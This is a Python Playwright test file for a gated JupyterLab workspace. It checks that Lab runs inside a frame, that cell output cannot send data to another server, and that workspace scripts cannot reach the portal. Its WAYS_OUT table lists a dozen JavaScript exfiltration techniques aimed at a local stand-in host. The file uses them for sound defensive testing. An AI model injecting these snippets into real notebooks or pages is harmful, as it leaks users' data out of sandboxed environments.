"""JupyterLab in a real browser through the gate: it works inside the frame, and a cell's output leads nowhere."""

from __future__ import annotations

import asyncio
import shutil
import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.async_api import Frame, Page, async_playwright

from tests.integration.gate.harness import DOMAIN, PASSWORD, ZoneUnderTest, wait_for

pytestmark = pytest.mark.browser
START_MILLISECONDS = 120_000
NOTEBOOK = "w.ipynb"

# Each of them tries to carry data to another server, as output of a cell.
WAYS_OUT = {
    "location": "window.location = '{0}'",
    "location_top": "window.top.location = '{0}'",
    "open": "window.open('{0}')",
    "link_top": "const a = document.createElement('a'); a.href = '{0}'; a.target = '_top'; document.body.append(a); a.click()",
    "form": "const f = document.createElement('form'); f.action = '{0}'; document.body.append(f); f.submit()",
    "meta": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={0}'; document.head.append(m)",
    "image": "new Image().src = '{0}'",
    "fetch": "fetch('{0}', {{mode: 'no-cors'}})",
    "websocket": "new WebSocket('{0}'.replace('http', 'ws'))",
    "frame": "const i = document.createElement('iframe'); i.src = '{0}'; document.body.append(i)",
    "beacon": "navigator.sendBeacon('{0}', 'x')",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{0}'; document.head.append(l)",
}


class Receiver(ThreadingHTTPServer):
    """A server of somebody else that writes down who calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Receiver)
        self.server.calls.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"received")

    do_POST = do_GET  # noqa: N815 — the name is the base class's

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def receiver() -> Iterator[Receiver]:
    """A running receiver."""
    server = Receiver()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def prefix(zone: ZoneUnderTest) -> str:
    """The prefix of alice's running workspace."""
    return zone.start_workspace("alice", "gibleed")


@pytest.fixture
async def page(zone: ZoneUnderTest, prefix: str) -> AsyncIterator[Page]:
    """Lab, opened by alice in Chromium."""
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("no Chromium on this machine")
    async with async_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"]
        arguments.append(f"--host-resolver-rules=MAP *.{DOMAIN} 127.0.0.1, MAP *.test 127.0.0.1")
        browser = await playwright.chromium.launch(executable_path=chromium, args=arguments)
        page = await (await browser.new_context()).new_page()
        await page.goto(f"{zone.origin('work')}{prefix}lab")
        await page.fill("input[name=username]", "alice")
        await page.fill("input[name=password]", PASSWORD)
        await page.click("[type=submit]")
        await lab(page)
        yield page
        await browser.close()


async def lab(page: Page) -> Frame:
    """Return the frame that holds Lab, once it is ready."""
    element = await page.wait_for_selector("iframe.work", timeout=START_MILLISECONDS)
    assert element is not None
    frame = await element.content_frame()
    assert frame is not None
    await frame.wait_for_selector(".jp-Launcher, .jp-Notebook", timeout=START_MILLISECONDS)
    return frame


async def open_notebook(page: Page) -> Frame:
    frame = await lab(page)
    card = frame.locator(".jp-LauncherCard[data-category=Notebook]").first
    await card.click()
    await frame.wait_for_selector(".jp-Notebook .jp-CodeCell", timeout=START_MILLISECONDS)
    await frame.wait_for_selector(".jp-NotebookPanel-toolbar [data-status=idle]", timeout=START_MILLISECONDS)
    return frame


async def run(page: Page, frame: Frame, code: str) -> None:
    await frame.locator(".jp-Notebook .jp-CodeCell .cm-content").last.click()
    await page.keyboard.insert_text(code)
    await page.keyboard.press("Shift+Enter")


async def test_lab_works_in_the_frame_and_the_bar_says_that_recording_is_on(
    zone: ZoneUnderTest, prefix: str, page: Page
) -> None:
    assert page.url.startswith(zone.origin("zone"))
    frame = await open_notebook(page)
    await run(page, frame, "print(6*7)")
    output = frame.locator(".jp-OutputArea-output", has_text="42")
    await output.first.wait_for(timeout=START_MILLISECONDS)
    bar = page.frame_locator("iframe.bar")
    assert "Recording" in await bar.locator("body").inner_text()
    await page.reload()
    await lab(page)


async def test_no_output_of_a_cell_leads_out(page: Page, receiver: Receiver) -> None:
    address = f"http://elsewhere.test:{receiver.server_port}"
    control = await page.context.new_page()
    await control.goto(f"{address}/control")
    assert receiver.calls == ["/control"]
    await control.close()
    for name, script in WAYS_OUT.items():
        frame = await open_notebook(page)
        body = script.format(f"{address}/{name}")
        await run(page, frame, f"from IPython.display import Javascript; display(Javascript({body!r}))")
        await asyncio.sleep(1.5)
        await page.reload()
        await lab(page)
    assert [c for c in receiver.calls if c not in ("/control", "/favicon.ico")] == []


async def test_a_script_in_a_workspace_can_neither_read_nor_post_to_the_portal(zone: ZoneUnderTest, page: Page) -> None:
    frame = await lab(page)
    for path in ("/", "/hub/login", "/hub/api/user"):
        for options in ("{}", "{mode:'no-cors', credentials:'include'}", "{method:'POST', credentials:'include'}"):
            script = f"fetch('{zone.origin('zone')}{path}', {options}).then(r => 'read', e => 'blocked')"
            assert await frame.evaluate(script) == "blocked"
    assert (
        await frame.evaluate(
            "try {{ window.parent.document.title; 'read' }} catch (e) {{ 'blocked' }}".replace("{{", "{").replace(
                "}}", "}"
            )
        )
        == "blocked"
    )


async def test_signing_out_shows_in_the_frame(zone: ZoneUnderTest, prefix: str, page: Page) -> None:
    before = zone.control("GET", "/workspaces").json()[zone.workspace()]["browsers"]
    other = await page.context.new_page()
    await other.goto(zone.origin("work") + "/_gate/logout")
    wait_for(lambda: zone.control("GET", "/workspaces").json()[zone.workspace()]["browsers"] < before, 10)
